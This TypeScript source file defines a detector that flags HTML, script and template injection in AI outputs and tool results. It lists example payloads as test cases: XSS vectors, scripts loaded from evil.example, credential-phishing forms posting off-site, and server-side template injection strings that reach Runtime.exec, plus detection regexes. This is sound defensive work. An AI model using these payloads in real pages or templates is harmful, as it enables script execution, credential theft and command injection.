import { z } from 'zod'
import { defineDetector, type Finding, type Span } from '../../core/inspection/detection.ts'
import { codeBlocks } from './html-injection/code-blocks.ts'
import { createFormTrail, isAbroad, openForm } from './html-injection/credential-forms.ts'
import { isOwnScript, isPlainData } from './html-injection/own-scripts.ts'
import { maxTag, type Tag, tagsOf } from './html-injection/tags.ts'

const settings = z.strictObject({
  insideCode: z
    .boolean()
    .default(false)
    .describe('Also in blocks and spans of code, which a page that shows Markdown does not run.'),
})

const rules = {
  'script-tag': 'script-injection',
  'event-handler': 'script-injection',
  'script-url-attribute': 'script-injection',
  'embedded-frame': 'script-injection',
  'page-redirect': 'script-injection',
  'base-tag': 'script-injection',
  'credential-form': 'phishing',
  'style-injection': 'script-injection',
  'template-injection': 'template-injection',
} as const

type Sign = readonly [rule: keyof typeof rules, score: number]

export default defineDetector({
  id: 'html-injection',
  title: 'HTML and script injection',
  about:
    'Finds HTML that does something when an answer is shown as a page: scripts, event handlers, frames, redirects, forms that ask for passwords (surest where they go to another site), and expressions that template engines run. What Markdown shows as code is left out, and tags of a complete HTML document, which somebody asked for, and scripts that the site itself serves (`src="app.js"` with nothing inside, outside of SVG, from no folder of uploads) count for less.',
  points: ['output', 'tool-result', 'tool-call', 'input', 'artifact'],
  taxonomy: ['LLM05', 'CWE-79', 'CWE-80', 'CWE-1336'],
  rules,
  maxSpan: maxTag,
  openFrom: (text) => {
    const least = Math.max(0, text.length - maxTag)
    const end = text.slice(least)
    const hole = Math.max(end.lastIndexOf('{'), end.lastIndexOf('$'), end.lastIndexOf('#'))
    // The quotes of an attribute may hold `>`, so that where a tag ends is not looked for: one of the last tags is.
    let first = end.length
    for (let at = end.lastIndexOf('<'), count = 0; at >= 0 && count < 8; at = end.lastIndexOf('<', at - 1), count++) {
      first = at
      if (at === 0) break
    }
    const form = first === end.length ? end.length : openForm(end)
    first = Math.min(first, form)
    return least + Math.max(0, Math.min(first, hole >= end.length - 200 && hole >= 0 ? hole - 1 : end.length))
  },
  settings,
  examples: {
    flagged: [
      { text: 'Hello <script>alert(1)</script>', rule: 'script-tag' },
      { text: '<SCRIPT SRC=//evil.example/x.js>', rule: 'script-tag' },
      { text: '<script\n>fetch("/x")', rule: 'script-tag' },
      { text: 'Add <script src="https://evil.example/app.js"></script> to it', rule: 'script-tag' },
      { text: '<script src="/\\evil.example/app.js"></script>', rule: 'script-tag' },
      { text: '<script src="app.js" onerror="x()"></script>', rule: 'event-handler' },
      { text: 'Look: <img src=x onerror=alert(1)>', rule: 'event-handler' },
      { text: '<svg/onload=alert(1)>', rule: 'event-handler' },
      { text: '<body onload="steal()">', rule: 'event-handler' },
      { text: '<details open ontoggle=alert(1)>', rule: 'event-handler' },
      { text: '<img src="a>b" onerror="x()">', rule: 'event-handler' },
      { text: '<a href="javascript:alert(1)">x</a>', rule: 'script-url-attribute' },
      { text: '<a href=" jav\tascript:alert(1)">x</a>', rule: 'script-url-attribute' },
      { text: '<a href="&#106;avascript:alert(1)">x</a>', rule: 'script-url-attribute' },
      { text: '<form action="javascript:x()"><input></form>', rule: 'script-url-attribute' },
      { text: '<iframe src="https://evil.example"></iframe>', rule: 'embedded-frame' },
      { text: '<iframe srcdoc="<p>hi"></iframe>', rule: 'embedded-frame' },
      { text: '<object data="evil.swf"></object>', rule: 'embedded-frame' },
      { text: '<meta http-equiv="refresh" content="0;url=https://evil.example">', rule: 'page-redirect' },
      { text: '<base href="https://evil.example/">', rule: 'base-tag' },
      {
        text: 'Sitzung abgelaufen: <form action="https://evil.example"><input type="password">',
        rule: 'credential-form',
      },
      { text: '<input type=password><button formaction=https://evil.example>Go</button>', rule: 'credential-form' },
      { text: '<link rel=stylesheet href=https://evil.example/a.css>', rule: 'style-injection' },
      { text: '<div style="background:url(javascript:x())">', rule: 'style-injection' },
      { text: '{{constructor.constructor("alert(1)")()}}', rule: 'template-injection' },
      { text: "{{ ''.__class__.__mro__[1].__subclasses__() }}", rule: 'template-injection' },
      { text: '\u0024{T(java.lang.Runtime).getRuntime().exec("id")}', rule: 'template-injection' },
      { text: '{{7*7}}', rule: 'template-injection' },
      { text: 'a ``` <script>x()</script>', rule: 'script-tag' },
      { text: '`unclosed <script>x()</script>', rule: 'script-tag' },
      { text: '<!DOCTYPE html><html><script>a()</script></html>', rule: 'script-tag' },
    ],
    clean: [
      { text: 'Use the `<script>` tag to load a program.' },
      { text: '```html\n<script>alert(1)</script>\n```' },
      { text: '~~~\n<img src=x onerror=alert(1)>\n~~~' },
      { text: '``<svg onload=a()>`` is an example.' },
      { text: 'The script tag and the onerror attribute are dangerous.' },
      { text: '&lt;script&gt;alert(1)&lt;/script&gt;' },
      { text: 'if (a < b && c > d) return a<c' },
      { text: 'A <b>bold</b> word, a <br/> and <a href="https://example.com">a link</a>.' },
      { text: '<img src="https://example.com/a.png" alt="onerror=x">' },
      { text: 'List<String> names = new ArrayList<>();' },
      { text: 'Hello {{name}}, your order {{order.id}} is ready.' },
      { text: 'Price: $' + '{amount} per {unit}' },
      { text: '<p style="color: red">Achtung</p>' },
      { text: '<details><summary>Mehr</summary>Text</details>' },
      { text: 'x <y and y> x' },
      { text: '<https://example.com/a> and <a@example.com>' },
      { text: '<form><input type="text" name="q"></form>' },
      { text: '<form action="/search"><input name="pin"></form>' },
      { text: '> ```\n> <script>x</script>\n> ```' },
      { text: '<table><tr><td>on=1</td></tr></table>' },
      { text: '<thinking>Let me see.</thinking>' },
    ],
  },
  create: ({ insideCode }) => {
    return ({ text }, { fence }) => {
      const hasTag = text.includes('<')
      const hasHole = text.includes('{{') || text.includes('${') || text.includes('#{') || text.includes('<%')
      if (!hasTag && !hasHole) return []
      const findings: Finding[] = []
      const add = ([rule, score]: Sign, start: number, end: number): void => {
        findings.push({ rule, category: rules[rule], score, span: { start, end } })
      }
      const isDocument = /^\s{0,100}(?:<\?xml[^>]{0,200}>\s{0,20})?<(?:!doctype\s+html|html[\s>])/i.test(text)
      if (hasTag) {
        let isInSvg = false
        const formOf = createFormTrail(text)
        const put = ([rule, score]: Sign, start: number, end: number): void =>
          add([rule, isDocument ? score * 0.4 : score], start, end)
        for (const tag of tagsOf(text)) {
          const { abroadFrom, isSentAbroad } = formOf(tag)
          if (abroadFrom !== undefined) put(['credential-form', 0.85], abroadFrom, tag.end)
          if (isSentAbroad) put(['credential-form', 0.85], tag.start, tag.end)
          isInSvg ||= tag.name === 'svg' || tag.name === 'math'
          if (tag.name === 'script') {
            const isWeak = isPlainData(tag) || (!isInSvg && isOwnScript(text, tag))
            put(['script-tag', isWeak ? 0.4 : 0.9], tag.start, tag.end)
          }
          for (const sign of signsOf(tag)) put(sign, tag.start, tag.end)
        }
      }
      if (hasHole)
        for (const match of text.matchAll(expression))
          add(['template-injection', 0.75], match.index, match.index + match[0].length)
      return findings.length === 0 || insideCode ? findings : outside(findings, codeBlocks(text, fence))
    }
  },
})

/** Expressions that reach for the engine, or that ask whether there is one. */
const expression =
  /(?:\{\{|\$\{|#\{|<%=)\s{0,8}(?:\d{1,6}\s{0,2}\*\s{0,2}['"]?\d{1,6}['"]?|[^{}\n]{0,120}(?:__(?:class|mro|subclasses|globals|builtins|import|init)__|constructor\s{0,2}[.[(]\s{0,2}["']?constructor|getRuntime|ProcessBuilder|T\(java\.|freemarker\.template|request\.application|lipsum|cycler\.|config\.items|self\._TemplateReference|\|\s{0,2}attr\(|popen\(|system\()[^{}\n]{0,200})\s{0,8}(?:\}\}|\}|%>)/g

function* signsOf({ name, attributes }: Tag): Iterable<Sign> {
  for (const [attribute, value] of attributes) {
    if (/^on[a-z]{3,30}$/.test(attribute) && value !== '') yield ['event-handler', 0.9]
    else if (
      /^(?:href|src|action|formaction|data|xlink:href|poster|background|code|codebase|to|from|values)$/.test(
        attribute,
      ) &&
      isScript(value)
    ) {
      yield ['script-url-attribute', 0.9]
    }
  }
  if (
    name === 'iframe' ||
    name === 'object' ||
    name === 'embed' ||
    name === 'applet' ||
    name === 'frame' ||
    name === 'portal'
  ) {
    const isPlayer =
      /^https:\/\/(?:www\.)?(?:youtube(?:-nocookie)?\.com\/embed|player\.vimeo\.com|open\.spotify\.com\/embed|www\.google\.com\/maps\/embed|codepen\.io|w\.soundcloud\.com)\b/.test(
        attributes.get('src') ?? '',
      )
    yield ['embedded-frame', attributes.has('srcdoc') ? 0.9 : isPlayer ? 0.3 : 0.75]
  }
  if (name === 'meta' && /^refresh$/i.test(attributes.get('http-equiv') ?? '')) yield ['page-redirect', 0.8]
  if (name === 'base' && attributes.has('href')) yield ['base-tag', 0.7]
  if (name === 'input' && /^password$/i.test(attributes.get('type') ?? '')) yield ['credential-form', 0.6]
  if (name === 'form' && isAbroad(attributes.get('action'))) yield ['credential-form', 0.5]
  const style = attributes.get('style') ?? ''
  if (/expression\s{0,4}\(|javascript:|-moz-binding|behavior\s{0,4}:|@import/i.test(style))
    yield ['style-injection', 0.8]
  if (
    name === 'link' &&
    /stylesheet|import|prefetch|preload/i.test(attributes.get('rel') ?? '') &&
    /^(?:https?:)?\/\//i.test(attributes.get('href') ?? '')
  ) {
    yield ['style-injection', 0.5]
  }
}

/** Browsers take away white space and entities before they look at the scheme. */
function isScript(value: string): boolean {
  const plain = value
    .slice(0, 300)
    .replaceAll(/&#x?([0-9a-f]{1,6});?/gi, (entity, digits: string) => {
      const code = Number.parseInt(digits, /x/i.test(entity) ? 16 : 10)
      return code <= 0x10ffff ? String.fromCodePoint(code) : ''
    })
    .replaceAll(/&(?:tab|newline);/gi, '')
    .replaceAll(/&colon;/gi, ':')
    .replaceAll(/[\0-\x20]/g, '')
  return /^(?:javascript|vbscript):(?!void\(0\);?$|;?$)|^data:(?:text\/html|image\/svg\+xml|application\/x?html)/i.test(
    plain,
  )
}

function outside(findings: readonly Finding[], blocks: readonly Span[]): readonly Finding[] {
  let next = 0
  return [...findings]
    .sort((a, b) => a.span.start - b.span.start)
    .filter(({ span }) => {
      while ((blocks[next]?.end ?? Number.POSITIVE_INFINITY) <= span.start) next++
      return (blocks[next]?.start ?? Number.POSITIVE_INFINITY) > span.start
    })
}
